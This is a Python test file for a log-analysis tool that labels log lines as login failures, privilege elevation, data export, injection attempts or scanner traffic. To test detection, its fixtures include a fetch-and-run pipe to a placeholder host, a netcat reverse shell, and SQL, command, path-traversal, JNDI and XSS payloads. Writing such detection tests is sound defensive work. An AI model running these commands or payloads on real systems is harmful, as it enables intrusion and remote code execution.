"""Acts in lines: which lines speak of one, and of whom."""

# ruff: noqa: E501 - rows of data read better long than broken

import polars as pl
import pytest

from logsense.parse import acts
from logsense.schema import ACTS, SAMPLED

# What software really prints, made up in its particulars: line, act, address, user.
LINES = [
    ("sshd[9]: Failed password for root from 192.0.2.7 port 4 ssh2", "failed", "192.0.2.7", "root"),
    ("sshd[9]: Failed password for invalid user bob from 2001:db8::7 port 4", "failed", "2001:db8::7", "bob"),
    ("sshd[9]: Failed publickey for git from 192.0.2.7 port 4 ssh2", "failed", "192.0.2.7", "git"),
    (
        "vsftpd: pam_unix(vsftpd:auth): authentication failure; ruser=bob rhost=192.0.2.7",
        "failed",
        "192.0.2.7",
        None,
    ),
    (
        "dovecot: imap-login: Disconnected (auth failed, 1 attempts): user=<bob>, rip=192.0.2.7",
        "failed",
        "192.0.2.7",
        "bob",
    ),
    ("Access denied for user 'bob'@'192.0.2.7' (using password: YES)", "failed", "192.0.2.7", "bob"),
    ('FATAL:  password authentication failed for user "bob"', "failed", None, "bob"),
    ("Login failed for user 'sa'. [CLIENT: 192.0.2.7]", "failed", "192.0.2.7", "sa"),
    ("WARN invalid credentials username=bob ip=192.0.2.7", "failed", "192.0.2.7", "bob"),
    (
        '{"event.action":"login","event.outcome":"failure","user.name":"bob","source.ip":"192.0.2.7"}',
        "failed",
        "192.0.2.7",
        "bob",
    ),
    (
        '{"eventName":"ConsoleLogin","sourceIPAddress":"192.0.2.7","x":{"ConsoleLogin":"Failure"}}',
        "failed",
        "192.0.2.7",
        None,
    ),
    ("EventID: 4625 An account failed to log on. Account Name: bob", "failed", None, "bob"),
    ('192.0.2.7 - - [x] "POST /login HTTP/1.1" 401 12', "failed", "192.0.2.7", None),
    ("sshd[9]: Accepted password for bob from 192.0.2.7 port 4 ssh2", "passed", "192.0.2.7", "bob"),
    ("user bob logged in from 192.0.2.7", "passed", "192.0.2.7", "bob"),
    ("dovecot: imap-login: Login: user=<bob>, rip=192.0.2.7", "passed", "192.0.2.7", "bob"),
    ("connection authorized: user=app database=shop", "passed", None, "app"),
    ("EventID: 4624 An account was successfully logged on. Account Name: bob", "passed", None, "bob"),
    ('192.0.2.7 - - [x] "POST /login HTTP/1.1" 302 12', "passed", "192.0.2.7", None),
    ('192.0.2.7 - - [x] "GET /.env HTTP/1.1" 404 12', "refused", "192.0.2.7", None),
    ('192.0.2.7 - - [x] "GET /backup.zip HTTP/1.1" 200 12', "answered", "192.0.2.7", None),
    ("sudo:    bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", "elevated", None, "bob"),
    ("su: (to root) bob on pts/0", "elevated", None, "bob"),
    ("bob exported table users (2002 rows) from 192.0.2.7", "took", "192.0.2.7", "bob"),
    ('192.0.2.7 - - [x] "GET /admin/export?table=users HTTP/1.1" 200 12', "took", "192.0.2.7", None),
]
NONE = [
    "served page 12 of the catalogue to 192.0.2.7",
    "CRON[1]: pam_unix(cron:session): session opened for user root by (uid=0)",
    "sshd[9]: pam_unix(sshd:auth): authentication failure; rhost=192.0.2.7  user=root",
    "login service: 0 failed",
    "failed_logins=0 ok_logins=12",
    "you must be logged in to see this",
    '192.0.2.7 - - [x] "GET /index.html HTTP/1.1" 200 12',
    "exporter listens on port 9100",
]


def block(lines: list[str]) -> tuple[pl.DataFrame, pl.DataFrame]:
    """The lines as the map has them: lines of one text have one key."""
    frame = pl.DataFrame(
        {
            "row": range(1, len(lines) + 1),
            "text": lines,
            "time": [None] * len(lines),
            "key": pl.Series(lines, dtype=pl.String).hash(7),
        },
        schema={"row": pl.UInt32, "text": pl.String, "time": pl.Datetime("us"), "key": pl.UInt64},
    )
    return frame, frame.select("key", "text").unique("key", maintain_order=True)


@pytest.mark.parametrize("line, act, address, user", LINES, ids=[line[:40] for line, *_ in LINES])
def test_an_act_is_read_from_its_line(line, act, address, user):
    """Each line gives its act, with the address and the user it names."""
    found = acts.find_acts(*block([line]), None, 3)
    assert found.select("act", "address", "user").rows() == [(act, address, user)]
    assert found.select("source", "line").rows() == [(3, 1)]
    ACTS.check(found)


@pytest.mark.parametrize("line", NONE)
def test_other_lines_make_no_act(line):
    """Ordinary lines, what PAM repeats of sshd, and counts of nothing make none."""
    assert acts.find_acts(*block([line]), None, 0).height == 0


def test_only_lines_that_start_a_record_count():
    """A line of a stack trace is no attempt."""
    line = LINES[0][0]
    found = acts.find_acts(*block([line, line]), pl.Series([True, False]), 0)
    assert found["line"].to_list() == [1]


def test_thinning_keeps_whole_actors_and_does_not_depend_on_the_order(monkeypatch):
    """Of too many acts whole actors are dropped, the same ones in whatever order parts are merged."""
    monkeypatch.setattr(acts, "ACT_ROWS", 60)
    rows = [
        {"source": 0, "line": i, "key": 1, "act": "failed", "address": f"192.0.2.{i % 40}"}
        for i in range(200)
    ]
    parts = [ACTS.of(rows[i : i + 50]) for i in range(0, 200, 50)]
    whole, level = acts.merge_acts(parts, 0)
    stepwise, thinned = parts[3], 0
    for part in (parts[1], parts[0], parts[2]):
        stepwise, thinned = acts.merge_acts([part, stepwise], thinned)
    assert thinned == level
    assert whole.sort("line").equals(stepwise.sort("line"))
    assert 0 < whole.height <= 60
    assert set(whole["address"].value_counts()["count"].to_list()) == {5}


@pytest.mark.parametrize(
    "line,act",
    [
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /items?id=1%27%20UNION%20SELECT%20x HTTP/1.1" 200 9', "injected"),
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /?q=1%27+or+1=1 HTTP/1.1" 500 9', "injected"),
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /ping?h=x%3bwget%20http://198.51.100.9/a HTTP/1.1" 200 9', "injected"),
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /items?id=1%27%20UNION%20SELECT%20x HTTP/1.1" 403 9', None),
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /news/european-union-selects HTTP/1.1" 200 9', None),
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /a;id=7 HTTP/1.1" 200 9', None),
        ('192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "GET /?who=o%27neil HTTP/1.1" 200 9', None),
        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c wget -qO- http://198.51.100.9 | sh", "commanded"),
        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/nc -e /bin/sh 198.51.100.9 4444", "commanded"),
        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://192.0.2.1/health", "elevated"),
        ("sudo[43]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/nc -zv 192.0.2.1 443", "elevated"),
    ],
)  # fmt: skip
def test_injections_and_telling_commands(line, act):
    """A request that carries an attack and is answered, and a command that fetches and runs, are acts."""
    assert (acts.acts_of(pl.Series([line]))[0] or None) == act


@pytest.mark.parametrize(
    "name,act",
    [
        ("CreateUser", "enrolled"),
        ("AttachUserPolicy", "granted"),
        ("CreateAccessKey", "keyed"),
        ("StopLogging", "blinded"),
        ("ListUsers", None),
    ],
)
def test_events_of_a_cloud(name, act):
    """Events of a cloud's audit trail are told apart by their name, though nothing else differs."""
    line = f'{{"eventSource": "iam.amazonaws.com", "eventName": "{name}", "sourceIPAddress": "192.0.2.7"}}'
    assert (acts.acts_of(pl.Series([line]))[0] or None) == act


HEAD = "192.0.2.1 - - [02/Mar/2026:08:58:20 +0000] "


def folded(lines: list[str]) -> list[tuple[int, str, float | None]]:
    """Line, act and size of what is found in lines of an access log that all have one key."""
    frame, _ = block(lines)
    frame = frame.with_columns(key=pl.lit(hash(tuple(lines)) % 2**63, pl.UInt64))
    found = acts.find_acts(frame, frame.select("key", "text").head(1), None, 0, folded=True)
    return ACTS.check(found).select("line", "act", "size").rows()


@pytest.mark.parametrize(
    "query,told",
    [
        ("id=1%27%20UNION%20SELECT%20name", True),
        ("id=1+union+all+select+1,2", True),
        ("q=1%27+or+1=1", True),
        ("h=x%3bwget%20http://198.51.100.9/a", True),
        ("h=;cat%20/etc/hosts", True),
        ("page=../../../../etc/passwd", True),
        ("page=..%2f..%2f..%2f..%2fvar", True),
        ("q=%24%7Bjndi:ldap://198.51.100.9/a%7D", True),
        ("q=%7B%7B7*7%7D%7D", True),
        ("file=php://filter/x", True),
        ("q=%3Cscript%3Ealert(1)", True),
        ("who=o%27neil&page=2", False),
        ("q=european+union+selects+a+committee", False),
        ("fields=title|id|cat|sh", False),
        ("sort=name;id+desc;cat+asc", False),
        ("db=information_schema&table=", False),
        ("next=../../home", False),
        ("url=https%3A%2F%2Fshop.example%2Fa%3Fb%3D1", False),
        ("q=caf%C3%A9%20%26%20bar", False),
        ("q=sleep+well", False),
    ],
)  # fmt: skip
def test_a_query_is_asked_line_by_line_where_its_key_does_not_hold_it(query, told):
    """Of lines of one key those whose query carries an attack are told, with the size of the answer."""
    lines = [f'{HEAD}"GET /items{q} HTTP/1.1" {code} 900 "-" "curl/8"' for q, code in
             (("", 200), (f"?{query}", 200), (f"?{query}", 404), ("?id=7", 200))]  # fmt: skip
    assert folded(lines) == ([(2, "injected", 900.0)] if told else [])


@pytest.mark.parametrize(
    "query,act", [("f=/etc/passwd", "injected"), ("from=/.env", None), ("next=/admin/export", None)]
)
def test_what_one_visitor_writes_into_a_query_is_not_said_of_all(query, act):
    """A key of an access log stands for all its lines: its example's query and agent speak for that line alone."""
    lines = [f'{HEAD}"GET /items{q} HTTP/1.1" 200 900 "-" "curl/8"' for q in (f"?{query}", "?id=7", "")]
    assert [row[:2] for row in folded(lines)] == ([(1, act)] if act else [])
    agents = [f'{HEAD}"POST /login HTTP/1.1" 401 9 "-" "{a}"' for a in ("curl; 0 failed", "curl")]
    assert [row[:2] for row in folded(agents)] == [(1, "failed"), (2, "failed")]


@pytest.mark.parametrize(
    "agent,told",
    [
        ("sqlmap/1.8#stable (https://sqlmap.org)", True),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", True),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", True),
        ("Fuzz Faster U Fool v2.1.0-dev", True),
        ("Mozilla/5.0 (X11; Linux x86_64) nikto fan", False),
        ("Mozilla/5.0 (compatible; Googlebot/2.1)", False),
        ("curl/8.5", False),
    ],
)
def test_a_tool_that_says_its_name_is_seen_in_each_line(agent, told):
    """Scanners are told by what they write of themselves, whatever they ask for and whatever they get."""
    lines = [f'{HEAD}"GET /items HTTP/1.1" 404 9 "-" "{who}"' for who in ("Mozilla/5.0", agent)]
    assert folded(lines) == ([(2, "scanned", None)] if told else [])
    own = f'time="2026-03-02" {{"uri":"/items","user_agent":"{agent}","status":404,"client":"192.0.2.1"}}'
    assert acts.find_acts(*block([own]), None, 0)["act"].to_list() == (["scanned"] if told else [])


def test_a_page_about_a_tool_is_not_the_tool():
    """Names of tools in a path, a query or a referrer are what visitors of such pages read."""
    lines = [f'{HEAD}"GET {path} HTTP/1.1" 200 9 "{origin}" "Mozilla/5.0"' for path, origin in
             (("/blog/sqlmap/", "-"), ("/?q=sqlmap/", "-"), ("/", "https://shop.example/Nikto"))]  # fmt: skip
    assert folded(lines) == []


@pytest.mark.parametrize("client", ["192.0.2.1", "2001:db8::7"])
def test_the_client_of_an_access_log_stands_at_its_head(client):
    """An address that the visitor writes into the query is not the visitor's."""
    line = f'{client} - - [02/Mar/2026:08:58:20 +0000] "GET /?ip=203.0.113.9&id=1%27+or+1=1 HTTP/1.1" 200 9'
    for head in ("", "shop.example:443 "):
        found = acts.find_acts(*block([head + line]), None, 0, folded=True)
        assert found["address"].to_list() == [client]


def test_what_others_ask_of_a_page_stands_beside_what_is_injected():
    """Sampled lines of the page give its usual sizes; other pages, and the injection itself, do not."""
    lines = [f'{HEAD}"GET {path} HTTP/1.1" 200 {size} "-" "x"' for path, size in
             (("/items?id=1%27+or+1=1", 90), ("/items?id=2", 70), ("/other", 50))]  # fmt: skip
    sampled = pl.DataFrame(
        {"source": 0, "line": [1, 2, 3], "time": None, "key": [7, 7, 8], "text": lines},
        schema=dict(SAMPLED.columns),
    )
    injected = ACTS.of([{"source": 0, "line": 1, "key": 7, "act": "injected", "address": "a", "size": 90.0}])
    found = ACTS.check(acts.with_usual(injected, sampled))
    assert found.select("line", "act", "address", "size").rows() == [
        (1, "injected", "a", 90.0),
        (2, "asked", "", 70.0),
    ]
    assert acts.with_usual(ACTS.empty(), sampled).height == 0
